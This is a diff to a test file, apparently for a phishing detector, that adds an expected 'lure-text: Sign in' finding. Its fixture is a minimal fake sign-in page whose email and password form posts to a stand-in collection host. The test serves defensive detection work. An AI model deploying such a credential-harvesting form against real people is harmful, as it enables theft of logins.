@@ -20,11 +20,13 @@ describe("a page in a delivery", () => {
     const page = `<!doctype html><title>Sign in</title><form action="https://collect.example/a"><input type=email><input type=password></form>`;
     assert.deepEqual((await see("a.html", page)).contents, [
       "secret-field: password",
+      "lure-text: Sign in",
       "sends-input: https://collect.example/a",
     ]);
     const saved = `<!doctype html><!-- saved from url=(0027)https://collect.example/login -->${page}`;
     assert.deepEqual((await see("a.html", saved)).contents, [
       "secret-field: password",
+      "lure-text: Sign in",
       "form-posts: https://collect.example/a",
     ]);
   });
